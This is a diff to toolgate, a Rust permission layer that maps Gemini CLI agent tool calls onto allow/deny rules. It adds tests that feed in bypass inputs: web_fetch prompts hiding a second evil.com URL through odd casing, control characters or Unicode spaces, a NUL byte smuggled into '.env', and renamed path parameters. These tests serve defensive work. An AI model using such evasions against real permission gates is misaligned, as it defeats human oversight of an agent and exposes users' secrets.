@@ -5,14 +5,14 @@
 //!
 //! | Gemini CLI | toolgate request |
 //! |---|---|
-//! | `run_shell_command {command, directory?}` | `Bash {command}` (cwd: `directory`) |
-//! | `read_file {absolute_path}` | `Read {file_path}` |
+//! | `run_shell_command {command, dir_path?, directory?}` | `Bash {command}` (cwd: each of `dir_path`, `directory`) |
+//! | `read_file {file_path, absolute_path?}` | `Read {file_path}` (one per path key) |
 //! | `write_file {file_path, content}` | `Write` |
 //! | `replace {file_path, old_string, new_string}` | `Edit` |
-//! | `glob {pattern, path?}` | `Glob` |
-//! | `search_file_content`, `grep`, `grep_search {pattern, path?}` | `Grep` |
-//! | `list_directory {path}` | `Glob {pattern: "*", path}` |
-//! | `web_fetch {prompt}` with one URL in the prompt | `WebFetch {url}` |
+//! | `glob {pattern, dir_path?, path?}` | `Glob` (one per root) |
+//! | `search_file_content`, `grep`, `grep_search {pattern, dir_path?, path?, include_pattern?}` | `Grep {pattern, path, include}` (one per root) |
+//! | `list_directory {dir_path, path?}` | `Glob {pattern: "*", path}` |
+//! | `web_fetch {prompt}` or `{url}` | `WebFetch {url}`, one per URL Gemini CLI fetches |
 //! | `server__tool` (MCP) | `mcp__server__tool` |
 //!
 //! Anything else keeps its name and is decided by rules naming it (or asks).
@@ -69,11 +69,13 @@ pub fn call(event: HookEvent, payload: &Value) -> Result<HookCall> {
     }
     let tool = required_str(payload, "tool_name")?.to_owned();
     let input = object_field(payload, "tool_input")?;
-    let mut req = map_tool(&tool, &input);
-    req.mode = mode(payload, "permission_mode");
-    if let (Some(dir), Some(base)) = (req.cwd.as_deref(), cwd.as_deref()) {
-        if !dir.starts_with('/') {
-            req.cwd = Some(format!("{}/{dir}", base.trim_end_matches('/')));
+    let mut requests = map_tool(&tool, &input);
+    for req in &mut requests {
+        req.mode = mode(payload, "permission_mode");
+        if let (Some(dir), Some(base)) = (req.cwd.as_deref(), cwd.as_deref()) {
+            if !dir.starts_with('/') {
+                req.cwd = Some(format!("{}/{dir}", base.trim_end_matches('/')));
+            }
         }
     }
     Ok(HookCall {
@@ -81,92 +83,203 @@ pub fn call(event: HookEvent, payload: &Value) -> Result<HookCall> {
         event,
         internal: INTERNAL_TOOLS.contains(&tool.as_str()),
         tool,
-        requests: vec![req],
+        requests,
         session_id,
         cwd,
         can_ask: true,
     })
 }
 
-/// A Gemini CLI tool call as the request toolgate's rules understand.
+/// A Gemini CLI tool call as the requests toolgate's rules understand: one per path (or
+/// URL, or working directory) the tool could use. Gemini CLI renamed parameters between
+/// versions (`absolute_path` → `file_path`, `path`/`directory` → `dir_path`), so every
+/// spelling present is judged, each as its own request; the strictest decision wins.
 ///
 /// ```
 /// let input = serde_json::json!({"absolute_path": "/p/a.rs"});
 /// let r = toolgate::agents::gemini::map_tool("read_file", &input);
-/// assert_eq!((r.tool.as_str(), r.input_str("file_path")), ("Read", Some("/p/a.rs")));
+/// assert_eq!((r[0].tool.as_str(), r[0].input_str("file_path")), ("Read", Some("/p/a.rs")));
 /// ```
-pub fn map_tool(tool: &str, input: &Value) -> Request {
+pub fn map_tool(tool: &str, input: &Value) -> Vec<Request> {
     let get = |k: &str| input.get(k);
     match tool {
         "run_shell_command" => {
-            let mut r = request("Bash", object(&[("command", get("command"))]));
-            r.cwd = input
-                .get("directory")
-                .and_then(Value::as_str)
-                .map(str::to_owned);
-            r
+            let command = object(&[("command", get("command"))]);
+            let dirs = present(input, &["dir_path", "directory"]);
+            if dirs.is_empty() {
+                return vec![request("Bash", command)];
+            }
+            dirs.into_iter()
+                .map(|dir| match dir.as_str() {
+                    Some(d) => {
+                        let mut r = request("Bash", command.clone());
+                        r.cwd = Some(d.to_owned());
+                        r
+                    }
+                    // Not a string: a directory toolgate cannot place; no rule for `Bash`
+                    // applies to it.
+                    None => request(tool, input.clone()),
+                })
+                .collect()
         }
-        "read_file" => request(
-            "Read",
-            object(&[("file_path", get("absolute_path").or(get("file_path")))]),
-        ),
-        "write_file" => request(
-            "Write",
-            object(&[("file_path", get("file_path")), ("content", get("content"))]),
-        ),
-        "replace" => request(
-            "Edit",
-            object(&[
-                ("file_path", get("file_path")),
-                ("old_string", get("old_string")),
-                ("new_string", get("new_string")),
-            ]),
-        ),
-        "glob" => request(
-            "Glob",
-            object(&[("pattern", get("pattern")), ("path", get("path"))]),
-        ),
-        "search_file_content" | "grep" | "grep_search" => request(
-            "Grep",
-            object(&[
-                ("pattern", get("pattern")),
-                ("path", get("path").or(get("dir_path"))),
-            ]),
-        ),
-        "list_directory" => {
-            let star = json!("*");
+        "read_file" => per_path(input, &["file_path", "absolute_path", "path"], |p| {
+            request("Read", object(&[("file_path", p)]))
+        }),
+        "write_file" => per_path(input, &["file_path", "absolute_path"], |p| {
             request(
-                "Glob",
+                "Write",
+                object(&[("file_path", p), ("content", get("content"))]),
+            )
+        }),
+        "replace" => per_path(input, &["file_path", "absolute_path"], |p| {
+            request(
+                "Edit",
                 object(&[
-                    ("pattern", Some(&star)),
-                    ("path", get("path").or(get("dir_path"))),
+                    ("file_path", p),
+                    ("old_string", get("old_string")),
+                    ("new_string", get("new_string")),
                 ]),
             )
+        }),
+        "glob" => per_path(input, &["dir_path", "path"], |p| {
+            request("Glob", object(&[("pattern", get("pattern")), ("path", p)]))
+        }),
+        "search_file_content" | "grep" | "grep_search" => {
+            per_path(input, &["dir_path", "path"], |p| {
+                request(
+                    "Grep",
+                    object(&[
+                        ("pattern", get("pattern")),
+                        ("path", p),
+                        ("include", get("include_pattern").or(get("include"))),
+                    ]),
+                )
+            })
         }
-        "web_fetch" => match single_url(get("prompt").and_then(Value::as_str).unwrap_or("")) {
-            Some(url) => request("WebFetch", json!({"url": url})),
-            None => request("web_fetch_prompt", input.clone()),
-        },
-        other => match other.split_once("__") {
+        "list_directory" => {
+            let star = json!("*");
+            per_path(input, &["dir_path", "path"], |p| {
+                request("Glob", object(&[("pattern", Some(&star)), ("path", p)]))
+            })
+        }
+        "web_fetch" => web_fetch(input),
+        other => vec![match other.split_once("__") {
             Some((server, name)) if !other.starts_with("mcp__") && !server.is_empty() => {
                 request(&format!("mcp__{server}__{name}"), input.clone())
             }
             _ => request(other, input.clone()),
-        },
+        }],
     }
 }
 
-/// The one URL in a prompt, if there is exactly one.
-fn single_url(prompt: &str) -> Option<String> {
-    let mut urls = prompt
-        .split_whitespace()
-        .filter(|w| w.starts_with("http://") || w.starts_with("https://"))
-        .map(|w| w.trim_end_matches(['.', ',', ')', ';', '"', '\'']));
-    let first = urls.next()?;
-    if urls.next().is_some() {
+/// The values of `keys` present in `input`, distinct values only.
+fn present<'a>(input: &'a Value, keys: &[&str]) -> Vec<&'a Value> {
+    let mut out: Vec<&Value> = Vec::new();
+    for key in keys {
+        if let Some(v) = input.get(key) {
+            if !out.contains(&v) {
+                out.push(v);
+            }
+        }
+    }
+    out
+}
+
+/// One request per distinct path under `keys` (Gemini CLI strips NUL bytes from file paths
+/// before it opens them, so toolgate does too); one request without a path when none is
+/// present.
+fn per_path(
+    input: &Value,
+    keys: &[&str],
+    make: impl Fn(Option<&Value>) -> Request,
+) -> Vec<Request> {
+    let paths = present(input, keys);
+    if paths.is_empty() {
+        return vec![make(None)];
+    }
+    paths
+        .into_iter()
+        .map(|p| match p.as_str() {
+            Some(s) if s.contains('\0') => make(Some(&Value::String(s.replace('\0', "")))),
+            _ => make(Some(p)),
+        })
+        .collect()
+}
+
+/// JavaScript's `\s`, which Gemini CLI splits a `web_fetch` prompt on.
+fn js_space(c: char) -> bool {
+    matches!(
+        c,
+        '\t' | '\n' | '\u{b}' | '\u{c}' | '\r' | ' ' | '\u{a0}' | '\u{1680}' | '\u{2000}'
+            ..='\u{200a}'
+                | '\u{2028}'
+                | '\u{2029}'
+                | '\u{202f}'
+                | '\u{205f}'
+                | '\u{3000}'
+                | '\u{feff}'
+    )
+}
+
+/// `web_fetch`: Gemini CLI fetches every token of the prompt that contains `://` and parses
+/// as an http(s) URL (WHATWG rules: the scheme in any case, leading control characters
+/// dropped), with GitHub `blob` pages turned into `raw.githubusercontent.com`; newer versions
+/// take a `url` instead. Each is a `WebFetch` request: the token as written (a token that
+/// does not parse carries doubt and asks) and the URL as Gemini CLI fetches it.
+fn web_fetch(input: &Value) -> Vec<Request> {
+    let mut urls: Vec<String> = Vec::new();
+    let mut add = |u: String| {
+        if !urls.contains(&u) {
+            urls.push(u);
+        }
+    };
+    let mut tokens: Vec<String> = Vec::new();
+    match input.get("url") {
+        Some(Value::String(u)) => tokens.push(u.clone()),
+        Some(other) => tokens.push(other.to_string()),
+        None => {}
+    }
+    match input.get("prompt") {
+        Some(Value::String(p)) => tokens.extend(
+            p.split(js_space)
+                .filter(|t| t.contains("://"))
+                .map(str::to_owned),
+        ),
+        Some(other) => tokens.push(other.to_string()),
+        None => {}
+    }
+    for token in tokens {
+        add(token.clone());
+        if let Ok(url) = url::Url::parse(&token) {
+            add(url.as_str().to_owned());
+            if let Some(raw) = github_raw(&url) {
+                add(raw);
+            }
+        }
+    }
+    if urls.is_empty() {
+        return vec![request("web_fetch_prompt", input.clone())];
+    }
+    urls.into_iter()
+        .map(|u| request("WebFetch", json!({ "url": u })))
+        .collect()
+}
+
+/// Gemini CLI's rewrite of a GitHub `blob` page to its raw file.
+fn github_raw(url: &url::Url) -> Option<String> {
+    if url.host_str() != Some("github.com") || !url.path().contains("/blob/") {
         return None;
     }
-    Some(first.to_owned())
+    let mut parts = url.path().splitn(5, '/');
+    let (_, owner, repo, blob) = (parts.next()?, parts.next()?, parts.next()?, parts.next()?);
+    if blob != "blob" {
+        return None;
+    }
+    let rest = parts.next().unwrap_or("");
+    let mut raw = url.clone();
+    raw.set_host(Some("raw.githubusercontent.com")).ok()?;
+    raw.set_path(&format!("/{owner}/{repo}/{rest}"));
+    Some(raw.as_str().to_owned())
 }
 
 /// Gemini CLI's answer for a verdict.
@@ -238,6 +351,11 @@ mod tests {
             (
                 "web_fetch",
                 json!({"prompt":"https://a.example https://b.example"}),
+                "WebFetch",
+            ),
+            (
+                "web_fetch",
+                json!({"prompt":"no link here"}),
                 "web_fetch_prompt",
             ),
             ("github__get_issue", json!({}), "mcp__github__get_issue"),
@@ -248,18 +366,19 @@ mod tests {
             ),
         ];
         for (tool, input, want) in cases {
-            assert_eq!(map_tool(tool, &input).tool, want, "{tool}");
+            assert_eq!(map_tool(tool, &input)[0].tool, want, "{tool}");
         }
         let r = map_tool(
             "web_fetch",
-            &json!({"prompt":"summarise https://a.example/x."}),
+            &json!({"prompt":"summarise https://a.example/x"}),
         );
-        assert_eq!(r.input_str("url"), Some("https://a.example/x"));
+        assert_eq!(r.len(), 1);
+        assert_eq!(r[0].input_str("url"), Some("https://a.example/x"));
         let r = map_tool(
             "run_shell_command",
             &json!({"command":"ls","directory":"/p/sub"}),
         );
-        assert_eq!(r.cwd.as_deref(), Some("/p/sub"));
+        assert_eq!(r[0].cwd.as_deref(), Some("/p/sub"));
     }
 
     #[test]
@@ -268,6 +387,142 @@ mod tests {
             "tool_name":"run_shell_command","tool_input":{"command":"ls","directory":"sub"}});
         let call = parse_call(None, &p.to_string()).unwrap();
         assert_eq!(call.requests[0].cwd.as_deref(), Some("/p/sub"));
+    }
+
+    fn verdict(policy: &str, tool: &str, input: Value) -> Verdict {
+        let p = json!({"session_id":"s","cwd":"/p","hook_event_name":"BeforeTool",
+            "tool_name":tool,"tool_input":input});
+        let call = parse_call(Some(Agent::Gemini), &p.to_string()).unwrap();
+        let policy = crate::Policy::from_json(policy).unwrap();
+        crate::agents::decide(&call, &policy, &crate::decision::TrustOverlay::default()).verdict
+    }
+
+    #[test]
+    fn web_fetch_judges_every_url_of_the_prompt() {
+        // Gemini CLI fetches every token that contains `://` and parses as http(s): the
+        // scheme in any case, leading control characters dropped, JavaScript's `\s` (which
+        // includes U+FEFF) between tokens.
+        let allow = r#"{"permissions":{"allow":["WebFetch(domain:docs.rs)"]}}"#;
+        let ok = verdict(
+            allow,
+            "web_fetch",
+            json!({"prompt":"Summarize https://docs.rs/serde"}),
+        );
+        assert!(matches!(ok, Verdict::Allow(_)), "{ok:?}");
+        for prompt in [
+            "Summarize https://docs.rs/serde and HTTPS://evil.com/?k=marker",
+            "Summarize https://docs.rs/serde and Http://evil.com/x",
+            "Summarize https://docs.rs/serde and \u{1}https://evil.com/x",
+            "Summarize https://docs.rs/serde\u{feff}https://evil.com/",
+            "Summarize https://docs.rs/serde\u{a0}https://evil.com/",
+            "Summarize https://docs.rs/serde and see:https://evil.com/",
+        ] {
+            let v = verdict(allow, "web_fetch", json!({ "prompt": prompt }));
+            assert!(!matches!(v, Verdict::Allow(_)), "{prompt:?}: {v:?}");
+        }
+        let deny = r#"{"defaultMode":"bypassPermissions",
+            "permissions":{"deny":["WebFetch(domain:evil.com)"]}}"#;
+        for prompt in [
+            "Summarize https://docs.rs/serde and HTTPS://evil.com/?k=marker",
+            "Summarize https://docs.rs/serde and Http://evil.com/x",
+            "Summarize https://docs.rs/serde and \u{1}https://evil.com/x",
+            "Summarize https://docs.rs/serde\u{feff}https://evil.com/",
+        ] {
+            let v = verdict(deny, "web_fetch", json!({ "prompt": prompt }));
+            assert!(matches!(v, Verdict::Deny(_)), "{prompt:?}: {v:?}");
+        }
+        // Newer versions fetch `url` directly.
+        let v = verdict(deny, "web_fetch", json!({"url":"https://EVIL.com/x"}));
+        assert!(matches!(v, Verdict::Deny(_)), "{v:?}");
+        // A GitHub page is fetched from raw.githubusercontent.com.
+        let r = map_tool(
+            "web_fetch",
+            &json!({"prompt":"https://github.com/o/r/blob/main/a.md"}),
+        );
+        let urls: Vec<_> = r.iter().filter_map(|r| r.input_str("url")).collect();
+        assert!(
+            urls.contains(&"https://raw.githubusercontent.com/o/r/main/a.md"),
+            "{urls:?}"
+        );
+    }
+
+    #[test]
+    fn file_tools_judge_every_path_key() {
+        // Gemini CLI 0.61 reads `file_path`; older versions `absolute_path`.
+        let deny = r#"{"permissions":{"deny":["Read(./.env)","Edit(./.env)"]}}"#;
+        let v = verdict(
+            deny,
+            "read_file",
+            json!({"absolute_path":"/p/src/a.rs","file_path":"/p/.env"}),
+        );
+        assert!(matches!(v, Verdict::Deny(_)), "{v:?}");
+        let v = verdict(
+            deny,
+            "read_file",
+            json!({"file_path":"/p/src/a.rs","absolute_path":"/p/.env"}),
+        );
+        assert!(matches!(v, Verdict::Deny(_)), "{v:?}");
+        // NUL bytes are stripped before the file is opened.
+        let v = verdict(deny, "read_file", json!({"file_path":"/p/.e\u{0}nv"}));
+        assert!(matches!(v, Verdict::Deny(_)), "{v:?}");
+        let v = verdict(
+            deny,
+            "replace",
+            json!({"absolute_path":"/p/a.rs","file_path":".env","old_string":"a","new_string":"b"}),
+        );
+        assert!(matches!(v, Verdict::Deny(_)), "{v:?}");
+    }
+
+    #[test]
+    fn the_shell_runs_in_dir_path() {
+        // Gemini CLI 0.61 runs the command in `dir_path` (older versions: `directory`).
+        let deny = r#"{"permissions":{"deny":["Read(//p/private/**)"]}}"#;
+        let v = verdict(
+            deny,
+            "run_shell_command",
+            json!({"command":"cat notes.txt","dir_path":"private"}),
+        );
+        assert!(matches!(v, Verdict::Deny(_)), "{v:?}");
+        let v = verdict(
+            deny,
+            "run_shell_command",
+            json!({"command":"cat notes.txt","dir_path":"/p","directory":"private"}),
+        );
+        assert!(matches!(v, Verdict::Deny(_)), "{v:?}");
+        let v = verdict(
+            "{}",
+            "run_shell_command",
+            json!({"command":"ls","dir_path":7}),
+        );
+        assert!(!matches!(v, Verdict::Allow(_)), "{v:?}");
+    }
+
+    #[test]
+    fn searches_judge_dir_path_and_include_pattern() {
+        let deny = r#"{"permissions":{"deny":["Read(//p/private/**)"]}}"#;
+        for tool in ["grep_search", "glob", "list_directory"] {
+            let v = verdict(deny, tool, json!({"pattern":"x","dir_path":"/p/private"}));
+            assert!(!matches!(v, Verdict::Allow(_)), "{tool}: {v:?}");
+            let v = verdict(
+                deny,
+                tool,
+                json!({"pattern":"x","path":"/p/src","dir_path":"/p/private"}),
+            );
+            assert!(!matches!(v, Verdict::Allow(_)), "{tool}: {v:?}");
+        }
+        // The include pattern is what the search opens: a secret file name asks.
+        let v = verdict(
+            "{}",
+            "grep_search",
+            json!({"pattern":"KEY","include_pattern":".env"}),
+        );
+        assert!(!matches!(v, Verdict::Allow(_)), "{v:?}");
+        let v = verdict(
+            "{}",
+            "grep_search",
+            json!({"pattern":"KEY","include_pattern":"*.rs"}),
+        );
+        assert!(matches!(v, Verdict::Allow(_)), "{v:?}");
     }
 
     #[test]
